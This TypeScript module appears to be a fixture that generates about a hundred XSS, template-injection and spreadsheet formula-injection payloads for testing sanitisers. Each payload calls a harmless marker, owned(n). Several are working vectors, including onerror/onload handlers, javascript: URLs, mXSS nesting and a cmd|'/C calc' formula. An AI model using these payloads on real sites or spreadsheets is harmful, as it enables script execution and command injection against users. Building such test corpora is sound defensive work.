/**
 * A hundred texts that become script, requests or formulas where text is taken for markup. Each calls `owned(<number>)`
 * or asks for `/owned`.
 */
const ELEMENTS: readonly ((call: string) => string)[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<script src=/owned.js></script><img src=/owned.png onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<details open ontoggle=${call}>x`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=/owned.css onerror=${call}>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<body onpageshow=${call}><img src=x onerror=${call}>`,
  (call) => `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  (call) => `<form action="javascript:${call}"><button autofocus onfocus=${call}>x</form>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<div style="background:url(/owned.png)" onanimationstart=${call}><img src=x onerror=${call}></div>`,
];
const BREAKOUTS = ['', '">', `'>`, '</textarea></title></style></script>'];

const OTHERS: readonly ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `' onmouseover='${call}' style='position:fixed;inset:0`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `%3Cimg%20src=x%20onerror=${call}%3E`,
  (call) => `<ScRiPt >${call}</ScRiPt >`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<img src="/owned.png" onload=${call}>`,
  (call) => `--><img src=x onerror=${call}><!--`,
  (call) => `]]><img src=x onerror=${call}>`,
  () => '=HYPERLINK("http://127.0.0.1/owned","x")',
  () => "+cmd|'/C calc'!A0",
  () => '-1+1+cmd|owned',
  () => '@SUM(1+1)*cmd|owned',
  () => '\t=1+1\r=2',
];

const call = (n: number): string => `owned(${String(n)})`;

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap((make, i) =>
    BREAKOUTS.map((breakout, k) => `${breakout}${make(call(i * BREAKOUTS.length + k))}`),
  ),
  ...OTHERS.map((make, i) => make(call(ELEMENTS.length * BREAKOUTS.length + i))),
];

export function payload(n: number, max = 200): string {
  return (PAYLOADS[n % PAYLOADS.length] ?? '').slice(0, max);
}
